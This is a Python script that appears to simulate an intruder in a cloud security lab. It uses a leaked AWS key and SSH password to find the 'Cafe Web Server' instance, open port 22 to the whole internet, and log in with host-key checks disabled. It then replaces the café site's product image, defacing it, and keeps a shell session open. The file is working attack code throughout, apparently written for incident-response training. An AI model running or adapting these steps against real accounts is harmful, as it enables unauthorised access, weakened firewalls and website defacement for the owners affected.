#!/usr/bin/env python3
"""What chaos does to the Café. Runs on a machine of hers, with an address of her own (`opentrail internet`); all that she has
is an access key of the user chaos (AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY) and a password at the web server (SSHPASS).
She uses the aws CLI and SSH, as anybody could.

  attack.py PICTURE     PICTURE: the file that takes the place of the Café's
  attack.py --again     only logs in, where that still goes: after the web server was away

Prints a line for each step. The last one, "logged in", stands once her session is open; she stays until it is ended.
"""

import json
import signal
import subprocess
import sys
import time

SERVER = "Cafe Web Server"
LOGIN = "chaos-user"
IMAGES = "/var/www/html/cafe/images"
VICTIM = "Coffee-and-Pastries"
PATIENCE_SECONDS = 30
SSH_OPTIONS = ("-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=5",
               "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1", "-o", "ServerAliveInterval=5", "-o", "ServerAliveCountMax=3")


def say(step):
    print(step, flush=True)


def aws(*arguments):
    done = subprocess.run(["aws", *arguments, "--output", "json"], capture_output=True, text=True, check=False)
    if done.returncode != 0:
        raise RuntimeError(f"aws {' '.join(arguments)}: {done.stderr.strip()}")
    return json.loads(done.stdout) if done.stdout.strip() else {}


def look_around():
    """Who this key is, whom it may list, and what there is to be had."""
    say(f"i am {aws('sts', 'get-caller-identity')['Arn']}")
    try:
        aws("iam", "list-users")
    except RuntimeError:
        say("may not list users")
    found = aws("ec2", "describe-instances", "--filters", f"Name=tag:Name,Values={SERVER}", "Name=instance-state-name,Values=running")
    server = found["Reservations"][0]["Instances"][0]
    return server["PublicIpAddress"], server["SecurityGroups"][0]["GroupId"]


def open_the_door(group):
    aws("ec2", "describe-security-groups", "--group-ids", group)
    try:
        aws("ec2", "authorize-security-group-ingress", "--group-id", group, "--protocol", "tcp", "--port", "22", "--cidr", "0.0.0.0/0")
    except RuntimeError as refused:
        if "InvalidPermission.Duplicate" not in str(refused):  # it is open from the last time that she tried
            raise
    say(f"opened port 22 of {group}")


def ssh(address, *command, **more):
    return subprocess.run(["sshpass", "-e", "ssh", *SSH_OPTIONS, f"{LOGIN}@{address}", *command], capture_output=True, text=True,
                          check=False, **more)


def get_in(address):
    deadline = time.monotonic() + PATIENCE_SECONDS
    while True:
        done = ssh(address, "id")
        if done.returncode == 0:
            return say(f"in: {done.stdout.strip()}")
        if time.monotonic() > deadline:
            raise RuntimeError(f"ssh {LOGIN}@{address}: {done.stderr.strip()}")
        time.sleep(1)


def change_the_picture(address, picture):
    with open(picture, "rb") as file:
        done = subprocess.run(["sshpass", "-e", "ssh", *SSH_OPTIONS, f"{LOGIN}@{address}",
                               f"cd {IMAGES} && mv -n {VICTIM}.jpg {VICTIM}.backup && cat > {VICTIM}.jpg && chmod 644 {VICTIM}.jpg"],
                              stdin=file, capture_output=True, text=True, check=False)
    if done.returncode != 0:
        raise RuntimeError(f"the picture: {done.stderr.strip()}")
    say("put a picture of mine in its place")


def stay(address):
    """A terminal on the web server, until somebody ends it."""
    with subprocess.Popen(["sshpass", "-e", "ssh", "-tt", *SSH_OPTIONS, f"{LOGIN}@{address}"], stdin=subprocess.PIPE,
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT) as session:
        # Her shell's first words: she is in.
        if not session.stdout.read(1):
            raise RuntimeError("the session did not open")
        say("logged in")
        try:
            while session.stdout.read(4096):
                pass
        finally:
            session.terminate()  # where she is told to go
    say("somebody ended my session")


def main():
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit("told to go"))
    try:
        address, group = look_around()
        if sys.argv[1] == "--again":
            return stay(address)
        open_the_door(group)
        get_in(address)
        change_the_picture(address, sys.argv[1])
        return stay(address)
    except RuntimeError as failure:
        return sys.exit(f"failed: {failure}")


if __name__ == "__main__":
    main()
